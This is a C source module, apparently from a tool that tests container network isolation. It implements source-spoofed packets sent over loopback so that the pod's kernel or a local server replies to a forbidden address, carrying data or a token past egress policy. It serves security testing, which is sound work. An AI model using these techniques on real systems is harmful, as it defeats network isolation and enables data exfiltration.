// SPDX-License-Identifier: Apache-2.0
/*
 * The pod's own kernel made to answer the forbidden address: the pod sends itself, over lo, a packet that claims to
 * come from there. The answer has no socket of the pod's.
 */
#include <netinet/icmp6.h>
#include <netinet/ip_icmp.h>

#include "escape.h"

enum answer { BY_ECHO_REPLY, BY_UNREACHABLE, BY_RST, BY_SYN_ACK, BY_UDP_SERVER };

static int send_forged(struct context *c, struct packet *p)
{
	uint8_t packet[256];

	p->source = is_v6(c) ? FORBIDDEN_V6 : FORBIDDEN_V4;
	p->destination = address_of(&c->own);
	p->source_port = c->port; /* where the answer goes */
	return inject_to(c, VIA_RAW, &c->own, packet, build(c, p, packet));
}

static int listen_here(struct context *c, int type)
{
	struct endpoint here = with_port(c->own, c->source_port);
	int fd = socket_for(c, type, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&here.addr, here.length) < 0 || (type == SOCK_STREAM && listen(fd, 4) < 0))
		return failed(c, "a server socket");
	return fd;
}

static int reflect(struct context *c)
{
	struct packet p = {.protocol = IPPROTO_UDP, .destination_port = c->source_port};
	struct sockaddr_storage peer;
	socklen_t size = sizeof(peer);
	char buffer[64];
	int fd = -1, result;

	switch ((enum answer)c->method->variant) {
	case BY_ECHO_REPLY:
		p.protocol = is_v6(c) ? (int)IPPROTO_ICMPV6 : (int)IPPROTO_ICMP;
		p.icmp_type = is_v6(c) ? ICMP6_ECHO_REQUEST : ICMP_ECHO;
		return send_forged(c, &p);
	case BY_UNREACHABLE: /* the error quotes the payload */
		return send_forged(c, &p);
	case BY_RST: /* to an ACK: its sequence number is ours */
		p.protocol = IPPROTO_TCP;
		p.tcp_flags = TCP_ACK;
		p.no_payload = true;
		return send_forged(c, &p);
	case BY_SYN_ACK:
		p.protocol = IPPROTO_TCP;
		p.tcp_flags = TCP_SYN;
		p.no_payload = true;
		fd = listen_here(c, SOCK_STREAM);
		if (fd < 0)
			return fd;
		result = send_forged(c, &p);
		pause_ms(50);
		break;
	case BY_UDP_SERVER: /* a server that answers who asked, as far as it can tell */
		fd = listen_here(c, SOCK_DGRAM);
		if (fd < 0)
			return fd;
		p.payload = "question";
		p.payload_length = 8;
		result = send_forged(c, &p);
		if (result == 0 && wait_for(fd, POLLIN, now_ms() + c->patience_ms) < 0)
			result = failed(c, "the forged question does not arrive");
		else if (result == 0 && (recvfrom(fd, buffer, sizeof(buffer), 0, (struct sockaddr *)&peer, &size) < 0 ||
					 sendto(fd, c->token, TOKEN_LENGTH, 0, (struct sockaddr *)&peer, size) < 0))
			result = failed(c, "answer");
		break;
	default: return -EINVAL;
	}
	close(fd);
	return result;
}

const struct method reflect_methods[] = {
	{"reflect-echo", "forged ping over lo: the kernel's echo reply carries data", "NET_RAW", V4 | V6, 0, reflect, NULL, BY_ECHO_REPLY},
	{"reflect-unreachable", "forged datagram over lo: the kernel's ICMP error carries data", "NET_RAW", V4 | V6, 0, reflect, NULL,
	 BY_UNREACHABLE},
	{"reflect-rst", "forged segment over lo: the kernel's RST", "NET_RAW", V4 | V6, TUPLE, reflect, NULL, BY_RST},
	{"reflect-syn-ack", "forged SYN over lo: a listener's SYN-ACK", "NET_RAW", V4 | V6, TUPLE, reflect, NULL, BY_SYN_ACK},
	{"reflect-udp", "forged question over lo: a UDP server answers", "NET_RAW", V4 | V6, TUPLE, reflect, NULL, BY_UDP_SERVER},
	{0},
};
